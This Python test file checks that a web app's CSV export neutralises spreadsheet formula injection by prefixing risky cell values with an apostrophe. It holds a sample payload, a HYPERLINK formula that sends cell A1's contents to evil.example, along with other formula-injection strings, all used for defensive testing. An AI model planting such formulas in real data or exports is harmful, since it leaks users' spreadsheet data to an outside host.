"""CSV injection: a Field value like a formula comes out of the Table view's CSV as text (a leading '),
numbers stay numbers. Process names in the metrics CSV: tests/metrics/test_csv_injection.py."""
from __future__ import annotations

import csv
import io

from app.exports import neutralize

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_every_formula_start_is_neutralised():
    for bad in ("=1+1", "+1", "-1+cmd", "@SUM(1)", "\t=1", "\r=1"):
        assert neutralize(bad) == "'" + bad
    assert neutralize("plain") == "plain" and neutralize(-5) == -5 and neutralize(None) is None


def test_table_view_csv(demo, client, web_login, new_task):
    task = new_task({"name": "@SUM(1)", "budget": -250, "notes": HYPERLINK})
    web_login("admin@procly.local")
    text = client.get("/queue/tables/clients?format=csv").get_data(as_text=True)
    rows = {r[0]: r for r in cells(text)}
    header, row = rows["task"], rows[str(task.id)]
    values = dict(zip(header, row))
    assert values["name"] == "'@SUM(1)"
    assert values["notes"] == "'" + HYPERLINK
    assert values["budget"] == "-250"       # a number, not text: a real negative number stays one
